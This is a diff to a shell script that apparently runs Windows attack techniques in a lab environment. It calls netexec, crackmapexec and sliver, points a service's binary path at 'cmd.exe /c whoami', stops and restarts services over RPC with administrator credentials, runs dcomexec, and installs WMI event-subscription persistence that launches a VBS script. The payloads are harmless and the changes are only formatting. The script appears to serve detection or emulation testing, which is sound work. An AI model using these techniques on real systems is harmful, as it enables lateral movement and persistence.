@@ -24,7 +24,7 @@ do_netexec() { published netexec; published netexec_task; }
 do_crackmapexec() { published crackmapexec; }
 do_sliver() { published sliver; }
 
-# A service borrowed and given back, six stopped, one looked at.
+# A service borrowed and given back, and six stopped.
 do_services_borrowed() {
   local own='C:\Windows\system32\svchost.exe -k netsvcs -p'
   tool services "$admin" change -name XblAuthManager -path 'C:\Windows\System32\cmd.exe /c whoami'
@@ -35,7 +35,8 @@ do_services_borrowed() {
 
 # Administration: one service asked about, stopped and started again.
 do_services_asked() {
-  for what in status stop start; do on client net -s "$(conf client)" rpc service "$what" Spooler -I "$at" -U "LAB/Administrator%$password"; done
+  for what in status stop start; do
+    on client net -s "$(conf client)" rpc service "$what" Spooler -I "$at" -U "LAB/Administrator%$password"; done
 }
 
 do_tasks() {
@@ -51,5 +52,6 @@ do_dcom() { shell dcomexec whoami; }
 
 do_subscription() {
   echo 'CreateObject("WScript.Shell").Run "calc.exe"' > script.vbs
-  tool wmipersist "$admin" install -name updates -vbs script.vbs -filter 'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "Win32_LocalTime"'
+  tool wmipersist "$admin" install -name updates -vbs script.vbs \
+    -filter 'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "Win32_LocalTime"'
 }
